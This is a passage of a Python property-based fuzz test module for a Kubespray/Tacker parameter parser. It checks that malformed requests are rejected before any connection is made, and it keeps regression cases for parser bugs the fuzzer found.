        return core.DEFAULT_NODEPORT_RANGE
    if not isinstance(value, str) or re.search('[\x00-\x1f\x7f]', value):
        return None
    match = re.fullmatch(r'([0-9]{1,5})-([0-9]{1,5})', value.strip())
    if not match:
        return None
    first, last = int(match.group(1)), int(match.group(2))
    return (first, last) if 1 <= first <= last <= 65535 else None


def m_ports(draw, ctx):
    lb = ctx.view().get('external_lb_param')
    if not isinstance(lb, dict):
        return False
    api, ports = _api_port(lb), _nodeport_range(lb)
    choices = (['range'] if api else []) + (['api'] if ports else [])
    if not choices:
        return False
    if draw(st.sampled_from(choices)) == 'range':
        first = draw(st.integers(1, api))
        last = draw(st.integers(api, 65535))
        put(ctx.target, ('external_lb_param', 'nodeport_range'),
            '%d-%d' % (first, last))
    else:
        put(ctx.target, ('external_lb_param', 'api_port'),
            draw(st.integers(ports[0], ports[1])))
    return ctx.done(('external_lb_param', 'api_port'))


def m_inventory(draw, ctx):
    ansible = ctx.view().get('ansible')
    root = ansible.get('kubespray_root_path') if isinstance(
        ansible, dict) else None
    if not isinstance(root, str) or not root.startswith('/') or \
            re.search('[\x00-\x1f\x7f]', root):
        return False
    root = '/' + posixpath.normpath(root).lstrip('/')
    if root == '/':
        return False
    inventory = draw(st.sampled_from((
        '/', root, root + '/', root + '/inventory/sample',
        root + '/inventory/..', root + '/./inventory/sample/',
        '//' + root.lstrip('/'), posixpath.dirname(root))))
    path = ('ansible', 'transferring_inventory_path')
    put(ctx.target, path, inventory)
    return ctx.done(path)


def m_labels(draw, ctx):
    view = ctx.view()
    sections = [('worker_node',)] if ctx.override else [
        ('master_node',), ('worker_node',)] + [
            path for path, _ in _pools(ctx, view)]
    sections = [s for s in sections if _writable(view, s)]
    if not sections:
        return False
    path = draw(st.sampled_from(sections)) + ('labels',)
    key, value = draw(BAD_LABEL)
    labels = lookup(ctx.target, path)
    if isinstance(labels, dict):
        labels[key] = value
    else:
        put(ctx.target, path, {key: value})
    return ctx.done(path + (key,))


def m_pool(draw, ctx):
    """A new listed pool (on any base) with one malformed field."""
    pools = ctx.view().get('node_pools', {})
    if ctx.override or not isinstance(pools, dict):
        return False
    key, kind = draw(st.sampled_from(sorted(POOL_FIELDS.items())))
    pool = {'nodes': ['10.10.9.9']}
    bad = BAD_LABEL.map(lambda kv: {kv[0]: kv[1]}) if kind == LABELS \
        else BAD[kind]
    pool[key] = draw(bad | WRONG[BASE_TYPE[kind]])
    put(ctx.target, ('node_pools', 'fuzz'), pool)
    return ctx.done(('node_pools', 'fuzz', key))


def m_extra_vars(draw, ctx):
    if ctx.override or not _writable(ctx.view(), ('kubespray',)):
        return False
    path = ('kubespray', 'extra_vars')
    name, value = draw(BAD_VAR)
    extra = lookup(ctx.target, path)
    if isinstance(extra, dict):
        extra[name] = value
    else:
        put(ctx.target, path, {name: value})
    return ctx.done(path + (name,))


@st.composite
def valid_nodes(draw, masters=None, workers=None):
    """A node list params accepts (addresses outside every sample CIDR)."""
    masters = draw(st.sampled_from((1, 3))) if masters is None else masters
    workers = draw(st.integers(0, 3)) if workers is None else workers
    roles = ['master'] * masters + ['worker'] * workers + ['external_lb']
    return [{'role': role, 'ssh_ip': '192.168.10.%d' % (11 + index),
             'nic_ip': '10.10.0.%d' % (11 + index)}
            for index, role in enumerate(roles)]


def _indices(entries, role):
    return [i for i, e in enumerate(entries) if e['role'] == role]


@st.composite
def broken_node_set(draw, networks):
    """A list of valid entries that is wrong as a set."""
    how = draw(st.sampled_from(('no_lb', 'two_lb', 'even_masters',
                                'no_master', 'same_nic', 'same_ssh') +
                               (('in_network',) if networks else ())))
    entries = draw(valid_nodes(workers=2))
    k8s = _indices(entries, 'master') + _indices(entries, 'worker')
    if how == 'no_lb':
        entries.pop(_indices(entries, 'external_lb')[0])
    elif how == 'two_lb':
        entries.append({'role': 'external_lb', 'ssh_ip': '192.168.10.41'})
    elif how == 'even_masters':
        masters = _indices(entries, 'master')
        if len(masters) == 3 and draw(st.booleans()):
            entries.pop(masters[0])
        else:
            entries.insert(0, {'role': 'master', 'ssh_ip': '192.168.10.9',
                               'nic_ip': '10.10.0.9'})
    elif how == 'no_master':
        entries = [e for e in entries if e['role'] != 'master']
    elif how == 'same_nic':
        first, second = draw(st.permutations(k8s))[:2]
        entries[second]['nic_ip'] = entries[first]['nic_ip']
    elif how == 'same_ssh':
        first, second = _indices(entries, 'worker')[:2]
        entries[second]['ssh_ip'] = entries[first]['ssh_ip']
    else:
        net = draw(st.sampled_from(networks))
        offset = draw(st.integers(0, net.num_addresses - 1))
        entries[draw(st.sampled_from(k8s))]['nic_ip'] = str(
            net.network_address + offset)
    return entries


def m_node_set(draw, ctx):
    view = ctx.view()
    if ctx.override:
        return False
    master = view.get('master_node')
    networks = []
    if isinstance(master, dict):
        networks = [net for net in (
            _net(master, 'pod_cidr', core.DEFAULT_POD_CIDR),
            _net(master, 'cluster_cidr', core.DEFAULT_SERVICE_CIDR))
            if net is not None]
    put(ctx.target, ('nodes',), draw(broken_node_set(networks)))
    return ctx.done(('nodes',))


def m_node_entry(draw, ctx):
    if ctx.override:
        return False
    entries = draw(valid_nodes())
    index = draw(st.integers(0, len(entries) - 1))
    entry = entries[index]
    how = draw(st.sampled_from(('not_mapping', 'delete', 'role', 'ssh_ip',
                                'nic_ip', 'ssh_port', 'unknown')))
    path = ('nodes', At(index))
    if how == 'not_mapping':
        entries[index] = draw(WRONG['entry'])
    elif how == 'delete':
        key = draw(st.sampled_from(('role', 'ssh_ip')))
        entry[key] = draw(st.sampled_from((None, '')))
        path += (key,)
    elif how == 'unknown':
        name = _unused(draw(typo(draw(st.sampled_from(sorted(NODE_FIELDS))))),
                       NODE_FIELDS, entry)
        entry[name] = draw(_SMALL_JSON)
        path += (name,)
    else:
        kind = NODE_FIELDS[how]
        entry[how] = draw(st.one_of(BAD[kind], WRONG[BASE_TYPE[kind]]))
        path += (how,)
    put(ctx.target, ('nodes',), entries)
    return ctx.done(path)


#: name -> mutation; a name listed twice is drawn twice as often.
MUTATIONS = {
    'delete': m_delete, 'wrong_type': m_wrong_type, 'bad_value': m_bad_value,
    'hostile': m_hostile, 'misspell': m_misspell,
    'unknown_key': m_unknown_key, 'networks': m_networks, 'ports': m_ports,
    'inventory': m_inventory, 'labels': m_labels,
    'extra_vars': m_extra_vars, 'node_set': m_node_set,
    'node_entry': m_node_entry, 'pool': m_pool,
}
_DRAWN = sorted(MUTATIONS) + ['wrong_type', 'bad_value', 'bad_value',
                              'hostile', 'delete']


def mutate(draw, ctx):
    """Apply one to four mutations; each is refused on its own."""
    for name in draw(st.lists(st.sampled_from(_DRAWN), min_size=1,
                              max_size=4)):
        MUTATIONS[name](draw, ctx)
    if not ctx.paths:  # none applied: one that always does
        m_wrong_type(draw, ctx)


@st.composite
def mutated_requests(draw):
    """``(additionalParams, mutated paths)``; the last is always named."""
    additional_params = BASES[draw(st.sampled_from(sorted(BASES)))]()
    ctx = Ctx(additional_params[ROOT])
    mutate(draw, ctx)
    if draw(st.integers(0, 39)) == 0:  # the whole mapping, rarely
        if draw(st.booleans()):
            del additional_params[ROOT]
        else:
            additional_params[ROOT] = draw(st.one_of(
                st.none(), WRONG['dict']))
        ctx.done(())
    return additional_params, ctx.paths


@st.composite
def mutated_overrides(draw):
    """``(instantiated, operation additionalParams, paths)``."""
    instantiated = BASES[draw(st.sampled_from(sorted(BASES)))]()
    operation = {ROOT: copy.deepcopy(draw(st.sampled_from(OVERRIDES))),
                 'lcm-operation-user-data': './UserData/x.py'}
    ctx = Ctx(operation[ROOT], instantiated[ROOT])
    mutate(draw, ctx)
    if draw(st.integers(0, 39)) == 0:
        operation[ROOT] = draw(WRONG['dict'])
        ctx.done(())
    return instantiated, operation, ctx.paths


# -------------------------------------------------------------- checks

def names(problems, path):
    """True if one of *problems* is about *path* (or inside it)."""
    prefix = path_text(path)
    ends = (':',) if path == () else (':', '.', '[')
    return any(problem.startswith(prefix + end)
               for problem in problems for end in ends)


def _is_missing(problem):
    return problem.endswith(': missing') or ': missing: give ' in problem


def check_refused(exc, paths, last=True):
    """*exc* is our refusal and names the mutated field.

    :param last: the last mutated path must be named (else any one).
    """
    assert type(exc) in (exceptions.ParamsInvalid,
                         exceptions.ParamsNotFound), repr(exc)
    if isinstance(exc, exceptions.ParamsNotFound):
        assert isinstance(exc, tacker_compat.MgmtDriverNotFound)
        assert all(_is_missing(p) for p in exc.problems), exc.problems
    else:
        assert isinstance(exc, tacker_compat.MgmtDriverParamInvalid)
        assert not all(_is_missing(p) for p in exc.problems)
    text = str(exc)
    assert exc.problems and ROOT in text
    for problem in exc.problems:
        assert problem.startswith(ROOT), problem
        assert problem in text
    wanted = paths[-1:] if last else paths
    assert any(names(exc.problems, path) for path in wanted), (
        [path_text(p) for p in wanted], exc.problems)


def refusal(call, *args, **kwargs):
    """The exception *call* raises; fails the test if it raises none."""
    try:
        call(*args, **kwargs)
    except Exception as exc:  # any type: check_refused says which is ok
        return exc
    pytest.fail('accepted a malformed request')


def count(test, paths):
    REFUSED[test] += 1
    for path in paths:
        FIELDS_HIT[field_of(path)] += 1


def fuzz(share):
    """The hypothesis settings (and seed) of one fuzz test."""
    def decorate(test):
        test = hypothesis.settings(
            max_examples=max(1, round(EXAMPLES * share)), deadline=None,
            derandomize=not SEED, database=None, print_blob=True,
            suppress_health_check=[hypothesis.HealthCheck.too_slow,
                                   hypothesis.HealthCheck.data_too_large,
                                   hypothesis.HealthCheck.large_base_example],
        )(test)
        if SEED and SEED != 'random':
            test = hypothesis.seed(int(SEED))(test)
        return test
    return decorate


# ------------------------------------------------------------ the hooks

@functools.cache
def _conf():
    conf = cfg.ConfigOpts()
    kconf.register_opts(conf)
    conf([])
    return conf


class Recorder:
    """Every collaborator of LcmHooks, recording each use.

    The pool factory hands out :class:`tests.fakes.FakePool` objects,
    whose connections record every command and file transfer.
    """

    def __init__(self):
        self.events = []
        self.pools = []

    def pool_factory(self):
        self.events.append('connection pool')
        pool = FakePool()
        self.pools.append(pool)
        return pool

    def heat_factory(self, context, vnf_instance, request):
        self.events.append('heat client')
        raise RuntimeError('the Heat client was asked for')

    def package_dir_of(self, context, vnf_instance):
        self.events.append('package directory')

    def register(self, context, vnf_instance, access):
        self.events.append('register VIM')

    def unregister(self, context, vnf_instance, name):
        self.events.append('unregister VIM')

    def hooks(self):
        conf = _conf()
        # inst-fuzz is instantiated: it has its record (statestore
        # refuses an operation of an instance without one, first).
        store = records.RecordStore.from_conf(conf)
        if store.state('inst-fuzz') == records.MISSING:
            store.save(records.InstanceRecord('inst-fuzz'))
        return v1.LcmHooks(conf, pool_factory=self.pool_factory,
                           heat_factory=self.heat_factory,
                           vim_registry=self,
                           package_dir_of=self.package_dir_of)

    def check_untouched(self):
        assert self.events == []
        assert [call for pool in self.pools
                for conn in pool.connections.values()
                for call in conn.calls] == []


def instance(additional_params):
    return types.SimpleNamespace(
        id='inst-fuzz', vnfd_id='vnfd', vim_connection_info=[],
        instantiated_vnf_info=types.SimpleNamespace(
            additional_params=additional_params, instance_id='stack',
            vnfc_resource_info=[]))


#: (hook, operation, request fields, keyword arguments)
OPERATION_HOOKS = (
    ('scale_end', 'scale', {'type': 'SCALE_OUT'},
     {'scale_out_id_list': ['s1']}),
    ('scale_start', 'scale', {'type': 'SCALE_IN'},
     {'scale_out_id_list': ['s1']}),
    ('scale_start', 'scale', {'type': 'SCALE_OUT'},
     {'scale_name_list': ['m1']}),
    ('heal_end', 'heal', {'vnfc_instance_id': []}, {}),
    ('heal_end', 'heal', {'vnfc_instance_id': ['vnfc-1']}, {}),
    ('heal_start', 'heal', {'vnfc_instance_id': []}, {}),
    ('heal_start', 'heal', {'vnfc_instance_id': ['vnfc-1']}, {}),
)


# ---------------------------------------------------------------- tests

def test_field_table_covers_every_key():
    # If params reads a new key, the fuzzer must learn it too.
    table = {section[0] if section else ROOT: set(fields)
             for section, fields in FIELDS.items()}
    table['node'] = set(NODE_FIELDS)
    table['node_pool'] = set(POOL_FIELDS)
    assert table == {name: set(keys)
                     for name, keys in params._SECTION_KEYS.items()}


@pytest.mark.parametrize('name', sorted(BASES))
def test_bases_are_valid(name):
    params.parse_params(BASES[name]())
    for override in OVERRIDES:
        merging.parse_for_operation(BASES[name](), {ROOT: override})


@fuzz(SHARES['test_parser_refuses_mutated_requests'])
@hypothesis.given(mutated_requests())
def test_parser_refuses_mutated_requests(case):
    additional_params, paths = case
    exc = refusal(params.parse_params, additional_params)
    check_refused(exc, paths)
    count('test_parser_refuses_mutated_requests', paths)


@fuzz(SHARES['test_parser_refuses_mutated_overrides'])
@hypothesis.given(mutated_overrides(), st.sampled_from(('scale', 'heal')))
def test_parser_refuses_mutated_overrides(case, operation):
    instantiated, request, paths = case
    exc = refusal(merging.parse_for_operation, instantiated, request,
                  operation)
    # A malformed override section stops the merge, and with it the
    # checks of the others: any mutated field is named, not the last.
    check_refused(exc, paths, last=False)
    count('test_parser_refuses_mutated_overrides', paths)


@fuzz(SHARES['test_instantiate_end_refuses_before_any_connection'])
@hypothesis.given(mutated_requests())
def test_instantiate_end_refuses_before_any_connection(case):
    additional_params, paths = case
    recorder = Recorder()
    request = types.SimpleNamespace(additional_params=additional_params)
    exc = refusal(recorder.hooks().instantiate_end, None,
                  instance(additional_params), request, None, None)
    check_refused(exc, paths)
    recorder.check_untouched()
    count('test_instantiate_end_refuses_before_any_connection', paths)


@st.composite
def operation_cases(draw):
    """A malformed instantiation, or a valid one and a malformed override.

    :returns: ``(instantiated, request additionalParams, paths, last)``.
    """
    if draw(st.booleans()):
        instantiated, paths = draw(mutated_requests())
        # No override: a valid one could put back a deleted key.
        return instantiated, draw(st.sampled_from(({}, {ROOT: None}))), \
            paths, True
    instantiated, request, paths = draw(mutated_overrides())
    return instantiated, request, paths, False


@fuzz(SHARES['test_operation_hooks_refuse_before_any_connection'])
@hypothesis.given(operation_cases(), st.sampled_from(OPERATION_HOOKS))
def test_operation_hooks_refuse_before_any_connection(case, hook):
    instantiated, request_params, paths, last = case
    name, _, fields, kwargs = hook
    recorder = Recorder()
    request = types.SimpleNamespace(additional_params=request_params,
                                    **fields)
    exc = refusal(getattr(recorder.hooks(), name), None,
                  instance(instantiated), request, None, None, **kwargs)
    check_refused(exc, paths, last=last)
    recorder.check_untouched()
    count('test_operation_hooks_refuse_before_any_connection', paths)


_PLAUSIBLE = st.sampled_from((
    '10.10.0.1', '10.0.0.0/24', 'fd00::/64', 'ubuntu', '/opt/kubespray',
    'Scripts/x.sh', 'http://proxy:3128', 'master', 'worker', 'external_lb',
    '2.24.0', '30000-32767', '22', 22, 8383, True, 'a,b'))
_JSON = st.recursive(
    _SCALARS | _PLAUSIBLE, functools.partial(
        _containers, keys=st.sampled_from(_ALL_KEYS) | _TEXTS, size=5),
    max_leaves=20)


@st.composite
def random_requests(draw):
    """A random tree: the whole input, the whole root, or one subtree."""
    how = draw(st.sampled_from(('input', 'root', 'subtree', 'subtree')))
    if how == 'input':
        return draw(_JSON | st.dictionaries(st.just(ROOT), _JSON))
    if how == 'root':
        return {ROOT: draw(_JSON)}
    additional_params = BASES[draw(st.sampled_from(sorted(BASES)))]()
    ctx = Ctx(additional_params[ROOT])
    path, _ = draw(st.sampled_from(leaves(ctx)))
    put(ctx.target, path, draw(_JSON))
    return additional_params


@fuzz(RANDOM_SHARE)
@hypothesis.given(random_requests())
def test_random_trees_give_a_spec_or_our_errors(additional_params):
    try:
        params.parse_params(additional_params)
    except (exceptions.ParamsInvalid, exceptions.ParamsNotFound) as exc:
        assert exc.problems
        for problem in exc.problems:
            assert problem.startswith((ROOT, 'additionalParams:')), problem
            assert problem in str(exc)
        if isinstance(additional_params, dict):
            # The hook refuses it the same way, before any connection.
            recorder = Recorder()
            request = types.SimpleNamespace(
                additional_params=additional_params)
            hook_exc = refusal(recorder.hooks().instantiate_end, None,
                               instance(additional_params), request, None,
                               None)
            assert type(hook_exc) is type(exc)
            assert hook_exc.problems == exc.problems
            recorder.check_untouched()
        REFUSED[RANDOM_TEST] += 1
    else:
        ACCEPTED[RANDOM_TEST] += 1


# Bugs of params.py the fuzzer found, now fixed (see the top).
_HUGE_INT = 10 ** 5000


@pytest.mark.parametrize('path,value,named', [
    # '$' in _LABEL_NAME_RE / _DNS_LABEL_RE / _VAR_NAME_RE matches before
    # a final newline.
    (('worker_node', 'labels'), {'app\n': 'x'},
     ('worker_node', 'labels', 'app\n')),
    (('worker_node', 'labels'), {'app': 'x\n'},
     ('worker_node', 'labels', 'app')),
    (('worker_node', 'labels'), {'example.com\n/app': 'x'},
     ('worker_node', 'labels', 'example.com\n/app')),
    # The prefix is checked only when it is not empty.
    (('worker_node', 'labels'), {'/app': 'x'},
     ('worker_node', 'labels', '/app')),
    (('kubespray', 'extra_vars'), {'foo\n': 1},
     ('kubespray', 'extra_vars', 'foo\n')),
    # _VERSION_RE's \d takes any Unicode digit; the version is kept as is.
    (('kubespray', 'version'), '\uff12.\uff12\uff14.\uff10',
     ('kubespray', 'version')),
    # _no_proxy refuses [\s\x00-\x1f] but not DEL, unlike every other
    # string field.
    (('proxy', 'no_proxy'), 'a\x7fb', ('proxy', 'no_proxy')),
    # No range check: 99 also disables the pod_cidr prefix check.
    (('kubespray', 'extra_vars'), {'kube_network_node_prefix': 99},
     ('kubespray', 'extra_vars', 'kube_network_node_prefix')),
    # repr() of an int over 4300 digits raises ValueError in _show().
    (('master_node', 'port'), _HUGE_INT, ('master_node', 'port')),
    (('worker_node', 'labels'), {_HUGE_INT: 'x'}, ('worker_node', 'labels')),
], ids=['label-key-newline', 'label-value-newline', 'label-prefix-newline',
        'label-empty-prefix', 'extra-var-name-newline',
        'version-unicode-digits', 'no-proxy-del', 'node-prefix-range',
        'huge-int-port', 'huge-int-label-key'])
def test_found_bugs_stay_fixed(path, value, named):
    request = BASES['ha']()
    put(request[ROOT], path, value)
    with pytest.raises((exceptions.ParamsInvalid,
                        exceptions.ParamsNotFound)) as info:
        params.parse_params(request)
    assert names(info.value.problems, named), info.value.problems


def _fields_missed():
    """Fields of the table no mutation hit."""
    fields = ['.'.join(section + (key,))
              for section, keys in FIELDS.items() for key in keys]
    fields += ['nodes.[].' + key for key in NODE_FIELDS]
    fields += ['node_pools.*.' + key for key in POOL_FIELDS]
    return fields, [field for field in fields if not any(
        hit == field or hit.startswith(field + '.') for hit in FIELDS_HIT)]


def test_zz_fuzz_counts():
    """Print the counts; check the budget when the whole module ran."""
    ran = [name for name in SHARES if REFUSED[name]]
    randoms = REFUSED[RANDOM_TEST] + ACCEPTED[RANDOM_TEST]
    if len(ran) < len(SHARES) or not randoms:
        pytest.skip('optional: only part of the fuzz tests ran')
    mutated = sum(REFUSED[name] for name in SHARES)
    total = mutated + REFUSED[RANDOM_TEST]
    fields, missed = _fields_missed()
    print('\nfuzz: %d malformed requests refused: %d mutated (%s), %d of '
          '%d random trees; %d of %d fields mutated' % (
              total, mutated, ', '.join('%s %d' % (name[5:], REFUSED[name])
                                        for name in SHARES),
              REFUSED[RANDOM_TEST], randoms, len(fields) - len(missed),
              len(fields)))
    assert total >= EXAMPLES
    if EXAMPLES >= DEFAULT_EXAMPLES:
        assert missed == []
